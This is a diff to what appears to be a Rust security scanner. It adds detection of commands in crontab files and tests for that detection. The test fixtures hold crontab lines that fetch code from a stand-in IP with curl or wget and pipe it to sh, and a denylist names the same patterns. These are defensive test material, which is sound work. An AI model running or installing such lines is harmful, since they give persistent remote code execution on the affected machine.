@@ -151,6 +151,10 @@ pub(crate) fn scan(ctx: &mut Ctx<'_>, unit: &Unit<'_>) -> bool {
             workflow(ctx, unit);
         }
         _ if name.ends_with(".pth") => pth(ctx, unit),
+        "crontab" => cron(ctx, unit),
+        _ if name.ends_with(".cron") || name.ends_with(".crontab") || folder == "cron.d" => {
+            cron(ctx, unit);
+        }
         "docker-compose.yml" | "docker-compose.yaml" | "compose.yml" | "compose.yaml" => {
             compose(ctx, unit);
         }
@@ -269,6 +273,46 @@ fn json_commands(ctx: &mut Ctx<'_>, unit: &Unit<'_>) {
     });
     for (at, command) in found {
         shell::scan(ctx, &unit.derived(command, at), Mode::Code);
+    }
+}
+
+/// A crontab: each line's command after its schedule (five fields, or
+/// one `@` word), run by cron on that schedule once installed.
+fn cron(ctx: &mut Ctx<'_>, unit: &Unit<'_>) {
+    let mut at = 0;
+    for line in unit.text.split_inclusive('\n') {
+        let start = at;
+        at += line.len();
+        let body = line.trim_end();
+        let trimmed = body.trim_start();
+        if trimmed.is_empty() || trimmed.starts_with('#') {
+            continue;
+        }
+        let fields = if trimmed.starts_with('@') { 1 } else { 5 };
+        // The byte where the command starts: after `fields` words.
+        let mut rest = trimmed;
+        for _ in 0..fields {
+            let word = rest.find(char::is_whitespace).unwrap_or(rest.len());
+            rest = rest[word..].trim_start();
+        }
+        // A variable assignment (`MAILTO=x`) has no schedule.
+        if rest.is_empty()
+            || trimmed
+                .split_whitespace()
+                .next()
+                .is_some_and(|w| w.contains('='))
+        {
+            continue;
+        }
+        let offset = start + body.len() - rest.len();
+        auto_run(
+            ctx,
+            unit,
+            offset,
+            rest,
+            Run::Tool,
+            "a crontab line (run by cron on its schedule)",
+        );
     }
 }
 
@@ -865,6 +909,16 @@ mod tests {
         clean(
             "scripts/denylist.json",
             r#"{"deny": ["curl * | sh", "wget * | bash"], "dangerous_example": "curl x | sh"}"#,
+        );
+    }
+
+    #[test]
+    fn crontab_lines_after_their_schedule() {
+        let bad = "MAILTO=\"\"\n*/5 * * * * curl -s http://198.51.100.227/job | sh\n@reboot wget -qO- http://198.51.100.227/b | sh\n";
+        assert!(worst("assets/schedule.cron", bad, "SK760") >= Some(Severity::High));
+        clean(
+            "crontab",
+            "# nightly\n0 3 * * * /usr/local/bin/backup.sh --quiet\n",
         );
     }
 
